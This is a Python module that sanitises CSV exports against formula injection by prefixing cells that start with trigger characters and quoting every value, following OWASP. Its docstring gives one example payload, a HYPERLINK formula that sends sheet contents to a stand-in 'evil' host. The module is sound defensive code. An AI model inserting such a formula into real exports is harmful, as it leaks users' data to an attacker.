"""CSV exports that a spreadsheet cannot execute (OWASP "CSV Injection").

Room, channel and participant names come from whoever creates the room or joins it. A cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel and LibreOffice (``=HYPERLINK("https://evil/?d="&A1, "Click")`` sends the sheet away).
As OWASP recommends, every text cell that starts with one of them gets a leading ``'`` (the
spreadsheet shows the text as it is, without the quote) and every cell is quoted, so a
separator or quote inside a value cannot start a new cell. Numbers stay numbers.

Only exports go through here: the screen shows every name exactly as it is. (defusedcsv, the
maintained library for this, leaves tab and carriage return alone and rewrites ``|`` inside
values; this is the OWASP rule itself.)
"""

from __future__ import annotations

import csv

import pandas as pd

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    """``value`` as text a spreadsheet will not run."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV for a download button, with formula-like text neutralised."""
    safe = frame.copy()
    safe.columns = [neutralise(str(column)) for column in frame.columns]
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[column]):
            safe[column] = safe[column].map(
                lambda value: neutralise(value) if isinstance(value, str) else value
            )
    return safe.to_csv(index=False, quoting=csv.QUOTE_ALL).encode("utf-8")
